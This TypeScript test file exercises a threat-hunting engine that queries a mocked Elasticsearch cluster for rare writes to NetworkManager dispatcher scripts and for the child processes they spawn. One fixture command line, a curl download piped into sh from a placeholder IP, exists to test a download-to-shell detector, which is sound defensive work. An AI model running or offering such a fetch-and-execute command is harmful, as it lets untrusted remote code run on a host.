import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { UnknownColumnError } from '../functions/core/errors';
import { fingerprintOf } from '../functions/core/finding';
import { defaultHuntConfig } from '../functions/core/hunt-config';
import { runHuntPhases, type EsqlAnswer } from '../functions/core/hunt-phases';
import type { HuntRequest } from '../functions/core/hunt-request';
import { huntById } from '../functions/core/hunts';
import { ROW_CAP } from '../functions/core/hunts/hunt-definition';
import { CHILD_COLUMNS, WRITE_COLUMNS, WRITE_SAMPLE_COLUMNS, childRow, responseFor, writeRow, writeSamples } from './support/rows';

const config = defaultHuntConfig();
const write = huntById('dispatcher-script-write')!;
const child = huntById('dispatcher-script-child')!;
const PATH = '/etc/NetworkManager/dispatcher.d/99-evil';

type Kind = 'rare' | 'count' | 'samples';
const kindOf = (request: HuntRequest): Kind => (/rare_groups = COUNT/.test(request.query) ? 'count' : /VALUES\(/.test(request.query) ? 'samples' : 'rare');
const keysOf = (request: HuntRequest) => request.params.flatMap((p) => Object.entries(p)).filter(([k]) => /^k\d+$/.test(k)).map(([, v]) => v);

/** A scripted cluster: one answer per kind of request, every request recorded. */
function cluster(answers: Partial<Record<Kind, (request: HuntRequest) => unknown>>, warnings: string[] = []) {
  const requests: HuntRequest[] = [];
  const execute = async (request: HuntRequest): Promise<EsqlAnswer> => {
    requests.push(request);
    const answer = answers[kindOf(request)];
    if (!answer) throw new Error(`unexpected ${kindOf(request)} request`);
    return { body: answer(request), warnings };
  };
  return { requests, execute };
}

describe('one hunt in phases: rare groups, then samples for those groups only', () => {
  it('asks for samples only for the rare groups, and for no column when there is no rare group', async () => {
    const empty = cluster({ rare: () => responseFor(WRITE_COLUMNS, []) });
    const none = await runHuntPhases(write, config, empty.execute);
    assert.deepEqual(none.findings, []);
    assert.deepEqual(empty.requests.map(kindOf), ['rare']);

    const c = cluster({
      rare: () => responseFor(CHILD_COLUMNS, [childRow()]),
      samples: () => responseFor([...CHILD_COLUMNS, 'host_names', 'agent_ids', 'command_lines'], [{ ...childRow(), host_names: 'web-01', agent_ids: 'agent-1', command_lines: 'curl -s http://203.0.113.7/x | sh' }]),
    });
    const rows = await runHuntPhases(child, config, c.execute);
    assert.deepEqual(c.requests.map(kindOf), ['rare', 'samples']);
    assert.doesNotMatch(c.requests[0]!.query, /VALUES/, 'no VALUES over every group');
    assert.deepEqual(keysOf(c.requests[1]!), ['/etc/NetworkManager/dispatcher.d/99-evil']);
    assert.deepEqual(c.requests[0]!.filter, c.requests[1]!.filter, 'both phases read the same window');
    const [finding] = rows.findings;
    assert.deepEqual(finding!.hostNames, ['web-01']);
    assert.deepEqual(finding!.context, { command_lines: ['curl -s http://203.0.113.7/x | sh'] });
    assert.deepEqual(finding!.indicators.map((i) => i.id), ['download-to-shell']);
  });

  it('splits many rare groups into sample requests of at most 500 keys', async () => {
    const groups = Array.from({ length: 1_201 }, (_, i) => writeRow({ 'file.path': `${PATH}-${i}` }));
    const c = cluster({
      rare: () => responseFor(WRITE_COLUMNS, groups),
      samples: (request) => responseFor(WRITE_SAMPLE_COLUMNS, keysOf(request).map((path) => writeSamples({ 'file.path': path }))),
    });
    const rows = await runHuntPhases(write, config, c.execute);
    assert.deepEqual(c.requests.filter((r) => kindOf(r) === 'samples').map((r) => keysOf(r).length), [500, 500, 201]);
    assert.equal(rows.rows, 1_201);
    assert.equal(rows.findings.length, 1_201);
    assert.equal(rows.truncated, false);
  });

  it('counts the rare groups when the answer is full, and reports a cut only when more exist', async () => {
    const full = Array.from({ length: ROW_CAP }, (_, i) => writeRow({ 'file.path': `${PATH}-${i}` }));
    const samples = (request: HuntRequest) => responseFor(WRITE_SAMPLE_COLUMNS, keysOf(request).map((path) => writeSamples({ 'file.path': path })));
    const cut = await runHuntPhases(write, config, cluster({ rare: () => responseFor(WRITE_COLUMNS, full), count: () => responseFor(['rare_groups'], [{ rare_groups: 13_512 }]), samples }).execute);
    assert.equal(cut.truncated, true);
    assert.equal(cut.rowsCut, 3_512);
    assert.equal(cut.findings.length, ROW_CAP, 'every returned rare group is kept');
    const exact = await runHuntPhases(write, config, cluster({ rare: () => responseFor(WRITE_COLUMNS, full), count: () => responseFor(['rare_groups'], [{ rare_groups: ROW_CAP }]), samples }).execute);
    assert.equal(exact.truncated, false);
  });

  it('expands a write into one finding per agent and one per content, each its own fingerprint', async () => {
    const c = cluster({
      rare: () => responseFor(WRITE_COLUMNS, [writeRow({ agent_count: 2 })]),
      samples: () => responseFor(WRITE_SAMPLE_COLUMNS, [writeSamples({ agent_count: 2, agent_hosts: ['agent-1\u0000web-01', 'agent-7\u0000db-07'], hashes: ['aa'.repeat(32), 'bb'.repeat(32)], writer_command_lines: 'python3 /tmp/x.py' })]),
    });
    const { findings } = await runHuntPhases(write, config, c.execute);
    const agents = findings.filter((f) => f.identity.agent !== null);
    const contents = findings.filter((f) => f.identity['file.hash.sha256'] !== null);
    assert.deepEqual(agents.map((f) => [f.identity.agent, f.hostNames]), [['agent-1', ['web-01']], ['agent-7', ['db-07']]]);
    assert.deepEqual(contents.map((f) => [f.identity['file.path'], f.identity['process.executable'], f.identity.agent]), [[PATH, null, null], [PATH, null, null]]);
    const fleetWide = fingerprintOf(write, { 'file.path': PATH, 'process.executable': '/usr/bin/bash', agent: null, 'file.hash.sha256': null });
    assert.ok(agents.every((f) => f.coveredBy === fleetWide), 'a fleet-wide approval of the pair covers each agent');
    assert.ok(contents.every((f) => JSON.stringify(f.quietWith) === JSON.stringify(agents.map((a) => a.fingerprint))));
    assert.deepEqual(contents[0]!.context['process.executable'], ['/usr/bin/bash'], 'the writer is context of a content');
    assert.equal(new Set(findings.map((f) => f.fingerprint)).size, 4);
  });

  it('drops an optional sample column no index maps, and says so, instead of failing the hunt', async () => {
    let attempts = 0;
    const c = cluster({
      rare: () => responseFor(WRITE_COLUMNS, [writeRow()]),
      samples: (request) => {
        attempts++;
        if (request.query.includes('file.hash.sha256')) throw new UnknownColumnError('file.hash.sha256', 'Unknown column [file.hash.sha256]');
        return responseFor(WRITE_SAMPLE_COLUMNS.filter((c) => c !== 'hashes'), [writeSamples()]);
      },
    });
    const rows = await runHuntPhases(write, config, c.execute);
    assert.equal(attempts, 2);
    assert.equal(rows.findings.length, 1);
    assert.match(rows.warnings.join('\n'), /no index maps file\.hash\.sha256/);
  });

  it('fails the hunt when a column it needs is unknown', async () => {
    const c = cluster({
      rare: () => responseFor(WRITE_COLUMNS, [writeRow()]),
      samples: () => {
        throw new UnknownColumnError('agent.id', 'Unknown column [agent.id]');
      },
    });
    await assert.rejects(runHuntPhases(write, config, c.execute), /Unknown column \[agent\.id\]/);
  });

  it('collects every response warning once', async () => {
    const c = cluster({ rare: () => responseFor(CHILD_COLUMNS, [childRow()]), samples: () => responseFor([...CHILD_COLUMNS, 'host_names', 'agent_ids', 'command_lines'], []) }, ['Line 3:9: evaluation of [LIKE] failed, treating result as null']);
    const rows = await runHuntPhases(child, config, c.execute);
    assert.deepEqual(rows.warnings, ['Line 3:9: evaluation of [LIKE] failed, treating result as null']);
  });
});
